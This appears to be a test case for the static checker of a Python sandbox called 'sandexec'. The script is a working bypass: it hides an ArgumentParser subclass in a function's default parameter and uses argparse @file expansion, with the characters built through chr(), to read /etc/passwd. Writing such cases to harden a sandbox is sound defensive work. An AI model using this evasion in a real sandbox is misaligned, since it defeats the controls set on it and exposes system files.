# source: sandexec README, "The static check", (a class of the script as a value is refused: lambda: C, return C, f(C)); Python function defaults
# family: class machinery: the script's own ArgumentParser subclass as a def parameter's default, returned
# goal: reads /etc/passwd through argparse @file expansion
import argparse


class P(argparse.ArgumentParser):
    pass


def make(k=P):
    return k


K = make()
print("class:", K)
at = chr(64)
p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
p.add_argument("rest", nargs="*")
path = at + chr(47) + "etc" + chr(47) + "passwd"
print(p.parse_args([path]).rest[:5])
